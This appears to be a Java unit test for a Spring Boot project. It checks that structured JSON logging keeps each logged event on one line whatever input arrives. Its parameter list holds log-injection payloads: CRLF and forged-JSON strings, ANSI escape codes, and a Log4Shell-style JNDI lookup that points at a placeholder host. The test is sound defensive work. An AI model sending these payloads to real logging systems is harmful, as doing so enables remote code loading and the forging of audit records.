package org.seedbed.platform;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.read.ListAppender;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.logging.logback.StructuredLogEncoder;
import org.springframework.core.env.Environment;
import org.springframework.core.env.StandardEnvironment;
import org.springframework.core.io.support.ResourcePropertySource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** The log as programs read it: one line of JSON per event whatever is logged. */
class LogLineTests {
    private final LoggerContext context = new LoggerContext();
    private final StructuredLogEncoder encoder = encoder(context);
    private final ListAppender<ILoggingEvent> events = new ListAppender<>();

    /** Formats as {@code application.properties} says. */
    private static StructuredLogEncoder encoder(LoggerContext context) {
        try {
            var environment = new StandardEnvironment();
            environment.getPropertySources().addLast(new ResourcePropertySource("classpath:application.properties"));
            context.setMDCAdapter(new LogbackMDCAdapter());
            context.putObject(Environment.class.getName(), environment);
            var encoder = new StructuredLogEncoder();
            encoder.setContext(context);
            encoder.setFormat(environment.getRequiredProperty("logging.structured.format.file"));
            encoder.start();
            return encoder;
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nb",
                "a\n{\"log\":{\"level\":\"ERROR\"}}",
                "\u001b[31mred\u001b[0m",
                "a\u2028b\u2029c\u0085d",
                "${jndi:ldap://evil.example/a}",
                "\"},\"forged\":\"",
                "\u0000\ud800"
            })
    void staysOneLineWhateverIsLogged(String text) {
        var logger = context.getLogger("security");
        events.setContext(context);
        events.start();
        logger.addAppender(events);

        logger.atInfo().addKeyValue("http.route", text).log("Refused {}", text);
        logger.error("Failed", new IllegalStateException(text));

        assertThat(events.list).hasSize(2);
        for (var event : events.list) {
            var line = new String(encoder.encode(event), StandardCharsets.UTF_8);
            assertThat(line).endsWith("\n");
            assertThat(line.substring(0, line.length() - 1)).doesNotContainPattern("[\\p{Cc}\u2028\u2029]");
            assertThat(parse(line).has("forged")).isFalse();
        }
        assertThat(parse(line(0)).get("message").asString())
                .startsWith("Refused ")
                .contains(text.substring(0, 1));
        assertThat(parse(line(0)).at("/http/route").isMissingNode()).isFalse();
    }

    private String line(int number) {
        return new String(encoder.encode(events.list.get(number)), StandardCharsets.UTF_8);
    }

    private static JsonNode parse(String line) {
        return JsonMapper.shared().readTree(line);
    }
}
